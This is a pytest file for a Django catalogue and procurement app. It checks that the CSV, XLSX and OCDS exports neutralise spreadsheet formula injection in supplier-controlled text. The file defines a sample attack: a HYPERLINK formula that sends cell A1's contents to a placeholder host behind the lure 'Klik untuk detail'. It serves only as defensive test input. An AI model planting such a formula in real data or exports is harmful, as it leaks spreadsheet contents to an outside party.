"""Every export writes through the shared writer: text a supplier controls never becomes a live formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from katalog.catalogue import exporting
from katalog.catalogue.models import Product
from katalog.core.roles import Role
from katalog.core.spreadsheets_write import append_row, csv_bytes, csv_cell
from katalog.opendata.ocds import flatten
from tests.factories import make_category, make_product, make_supplier, make_user

ATTACK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik untuk detail")'


def formulas(data: bytes) -> list[bytes]:
    """Every formula element in every sheet of a workbook, read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(rb"<(?:\w+:)?f[\s>/][^<]*", archive.read(name))]


def text_cells(data: bytes, value: str) -> list:
    """The cells holding `value`, from openpyxl's full (not read-only) load."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == value]


def assert_inert(data: bytes, value: str = ATTACK):
    assert formulas(data) == []
    cells = text_cells(data, value)
    assert cells, "the text should be kept as written"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


@pytest.mark.parametrize("text", ["=1+1", "+62 812", "-5", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_would_run_get_an_apostrophe(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell("Keripik = enak") == "Keripik = enak" and csv_cell(-5) == -5 and csv_cell(None) == ""


def test_xlsx_rows_keep_numbers_and_quote_formula_text_on_normal_and_write_only_sheets():
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("A") if write_only else book.active
        append_row(sheet, [ATTACK, -5, "biasa", "tab\x00kontrol"])
        out = io.BytesIO()
        book.save(out)
        assert_inert(out.getvalue())
        row = next(load_workbook(out).worksheets[0].iter_rows(values_only=True))
        assert row == (ATTACK, -5, "biasa", "tabkontrol")


@pytest.mark.django_db
def test_catalogue_export_writes_a_supplier_formula_as_text():
    supplier = make_supplier(name=ATTACK)
    make_product(supplier, make_category("Keripik"), name=ATTACK, description="-" + ATTACK, price=18_000)
    data = exporting.catalogue_workbook(Product.objects.all())
    assert_inert(data)
    assert_inert(data, "-" + ATTACK)


@pytest.mark.django_db
def test_national_v6_export_writes_a_supplier_formula_as_text():
    supplier = make_supplier(name=ATTACK, scale="mikro")
    make_product(supplier, make_category("Keripik"), name=ATTACK, brand="@" + ATTACK, price=18_000)
    data = exporting.national_workbook(Product.objects.all())
    assert_inert(data)
    assert_inert(data, "@" + ATTACK)


@pytest.mark.django_db
def test_monitoring_order_export_writes_a_supplier_formula_as_text(client):
    from tests.monitoring.scenario import YEAR, build

    scenario = build()
    supplier = scenario.orders["a1"].supplier
    supplier.name = ATTACK
    supplier.save(update_fields=["name"])
    client.force_login(make_user(Role.AUDITOR))
    response = client.get(reverse("monitoring:orders"), {"tahun": YEAR, "ukuran": "realised", "format": "xlsx"})
    assert response.status_code == 200
    assert_inert(response.content)


def _release(name: str) -> dict:
    return {"ocid": "ocds-x-1", "parties": [{"id": "1", "name": name}],
            "awards": [{"id": "a", "items": [{"id": "i", "description": name}]}]}


def test_ocds_csv_export_quotes_a_supplier_formula():
    rows = list(csv.reader(io.StringIO(flatten.to_csv(flatten.process_rows([_release(ATTACK)])).decode("utf-8-sig"))))
    record = dict(zip(rows[0], rows[1]))
    assert record["parties/0/name"] == "'" + ATTACK
    items = list(csv.reader(io.StringIO(flatten.to_csv(flatten.item_rows([_release(ATTACK)])).decode("utf-8-sig"))))
    assert dict(zip(items[0], items[1]))["description"] == "'" + ATTACK


def test_ocds_xlsx_export_writes_a_supplier_formula_as_text():
    release = _release(ATTACK)
    data = flatten.to_xlsx([("proses", flatten.process_rows([release])), ("barang", flatten.item_rows([release]))])
    assert_inert(data)
    assert len(text_cells(data, ATTACK)) == 2


def test_csv_templates_go_through_the_same_writer():
    data = csv_bytes([["nama"], [ATTACK]], delimiter=";")
    assert data.startswith("\ufeff".encode())
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1] == ["'" + ATTACK]
